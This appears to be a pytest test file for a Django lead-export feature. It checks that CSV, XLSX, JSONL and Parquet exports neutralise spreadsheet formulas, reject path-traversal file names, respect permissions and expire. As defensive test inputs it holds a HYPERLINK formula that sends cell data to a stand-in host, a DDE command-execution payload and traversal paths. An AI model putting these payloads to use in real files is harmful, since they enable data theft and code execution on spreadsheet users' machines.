"""Files out: every kind holds the same, and nothing in them runs."""

from __future__ import annotations

import csv
import json
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import duckdb
import openpyxl
import pytest
from django.contrib.auth.models import Permission, User
from django.core.management import call_command
from django.utils import timezone

from fliptech_site.errors import InvalidInput
from leads.export_files.base import Column, Type
from leads.export_files.csv_file import defuse
from leads.export_files.parquet_file import ParquetWriter
from leads.exporting import export, exports_folder, request_export, run_export
from leads.filtering import filter_leads, parse_filters
from leads.models import Lead, LeadExport, LeadFact
from leads.pruning import prune_scraper_data

EVIL = '=HYPERLINK("http://x.example?"&A1)'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1", "'\uff1d1"),
        ("+17075550123", "+17075550123"),
        (-122.27, "-122.27"),
        (None, ""),
        ("Rosa's", "Rosa's"),
    ],
)
def test_a_cell_is_never_a_formula(value, cell):
    assert defuse(value) == cell


@pytest.fixture
def three(db):
    Lead.objects.create(name="Unscored", city="Ely")
    Lead.objects.create(name="Low", score=10, phone="+17075550123", latitude=38.25)
    return Lead.objects.create(
        name=EVIL, score=90, city="Ely", score_reasons=[{"points": 90, "reason": "Ö"}]
    )


def test_a_csv_export_holds_the_leads_best_first(three):
    Lead.objects.create(name="Gone", score=95, merged_into=three)
    result = export(path="leads.csv")
    assert result["leads"] == 3
    with Path(result["path"]).open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [row["name"] for row in rows] == [f"'{EVIL}", "Low", "Unscored"]
    assert rows[1]["phone"] == "+17075550123"


def test_a_jsonl_export_holds_values_as_they_are(three):
    text = Path(export("jsonl")["path"]).read_text(encoding="utf-8")
    first, second, _ = (json.loads(line) for line in text.splitlines())
    assert (first["name"], first["reasons"], first["latitude"]) == (EVIL, "Ö", None)
    assert (second["score"], second["latitude"]) == (10, 38.25)


def test_an_xlsx_export_holds_texts_and_no_formula(three):
    path = export("xlsx")["path"]
    sheet = openpyxl.load_workbook(path).active
    header, first, second, _ = sheet.iter_rows()
    names = [cell.value for cell in header]
    assert first[names.index("name")].value == EVIL
    assert first[names.index("name")].data_type == "s"
    assert second[names.index("latitude")].value == 38.25
    assert isinstance(first[names.index("first_seen_at (UTC)")].value, datetime)
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    assert not list(exports_folder().glob("export-*"))


def test_a_parquet_export_is_read_by_another_program(three):
    wanted = "name, score, latitude, epoch_us(first_seen_at)"
    rows = read_parquet(export("parquet")["path"], wanted)
    assert [row[:3] for row in rows] == [
        (EVIL, 90, None),
        ("Low", 10, 38.25),
        ("Unscored", None, None),
    ]
    assert rows[0][3] == round(three.first_seen_at.timestamp() * 1_000_000)


def read_parquet(path, wanted):
    """Read with a reader that we did not write."""
    with duckdb.connect() as database:
        query = f"SELECT {wanted} FROM read_parquet(?)"
        return database.execute(query, [str(path)]).fetchall()


@pytest.mark.parametrize("count", [0, 1, 7, 8, 9, 5_000, 12_345])
def test_a_parquet_file_of_any_length_is_whole(tmp_path, count):
    path = tmp_path / "x.parquet"
    at = datetime(2026, 11, 25, tzinfo=UTC)
    columns = [
        Column("n", Type.INTEGER),
        Column("t", Type.TEXT),
        Column("seen", Type.TIME),
    ]
    rows = [
        (n - 3, None if n % 3 == 0 else f"é{n}" * (n % 50), at + timedelta(seconds=n))
        for n in range(count)
    ]
    with ParquetWriter(path, columns) as writer:
        for row in rows:
            writer.write(row)
    found = read_parquet(path, "n, t, epoch(seen)")
    assert found == [(n, text, seen.timestamp()) for n, text, seen in rows]


@pytest.mark.parametrize("name", ["../x.csv", "/etc/x.csv", "x.txt", "a/b.csv", ".csv"])
def test_an_export_stays_in_its_folder(name, db):
    with pytest.raises(InvalidInput, match="no name for an export"):
        export(path=name)


@pytest.mark.parametrize(
    ("filters", "names"),
    [
        ({}, {EVIL, "Low", "Unscored"}),
        ({"stage": "qualified"}, {EVIL}),
        ({"stage": "unscored"}, {"Unscored"}),
        ({"city": "Ely", "min_score": "50"}, {EVIL}),
        ({"q": "ely unsc"}, {"Unscored"}),
        ({"source": "import"}, {"Low"}),
    ],
)
def test_filters_are_those_of_the_list(three, filters, names):
    LeadFact.objects.create(
        lead=Lead.objects.get(name="Low"),
        field="name",
        value="Low",
        source="import",
        fetched_at=timezone.now(),
    )
    assert {lead.name for lead in filter_leads(filters)} == names


def test_a_filter_that_does_not_exist_is_named(db):
    with pytest.raises(InvalidInput, match="'colour=red' is no filter"):
        parse_filters(["colour=red"])
    with pytest.raises(InvalidInput, match="no stage"):
        filter_leads({"stage": "x"})
    with pytest.raises(InvalidInput, match="no whole number"):
        filter_leads({"min_score": "x"})
    with pytest.raises(InvalidInput, match="no format"):
        export("pdf")


def test_the_command_exports_what_its_filters_let_through(three, capsys):
    arguments = ("--format", "jsonl", "--filter", "city=Ely", "--min-score", "50")
    call_command("leads", "export", *arguments, "--name", "ely.jsonl")
    assert "1 leads are in" in capsys.readouterr().out


def test_an_export_that_breaks_says_so_and_leaves_no_half_file(three, monkeypatch):
    def broken(lead):
        raise RuntimeError("no more disk")

    monkeypatch.setattr("leads.exporting._row", broken)
    wanted = request_export("xlsx", {}, user_id=None)
    with pytest.raises(RuntimeError):
        run_export("xlsx", {}, "", wanted.pk)
    wanted.refresh_from_db()
    assert (wanted.state, wanted.reason) == ("failed", "no more disk")
    assert not [path for path in exports_folder().iterdir() if ".part" in path.name]


def test_a_finished_export_is_downloaded_by_those_who_may(three, client):
    wanted = request_export("csv", {"city": "Ely"}, user_id=None)
    run_export("csv", {}, "", wanted.pk)
    where = f"/admin/leads/leadexport/{wanted.pk}/download/"
    user = User.objects.create_user("clerk", is_staff=True)
    client.force_login(user)
    assert client.get(where).status_code == 403
    user.user_permissions.set(
        Permission.objects.filter(codename__in=["view_leadexport", "view_lead"])
    )
    answer = client.get(where)
    assert answer["Content-Disposition"].startswith("attachment")
    body = b"".join(answer.streaming_content)
    assert body.count(b"\r\n") == 3
    assert b"Low" not in body


def test_the_file_of_an_expired_export_goes(three, client):
    done = export(path="old.csv")
    row = LeadExport.objects.get(pk=done["export_id"])
    row.expires_at = timezone.now() - timedelta(seconds=1)
    row.save()
    client.force_login(User.objects.create_superuser("owner"))
    answer = client.get(f"/admin/leads/leadexport/{row.pk}/download/", follow=True)
    assert "The file of this export is gone" in answer.content.decode()
    assert prune_scraper_data()["exports"] == 1
    assert not Path(done["path"]).exists()
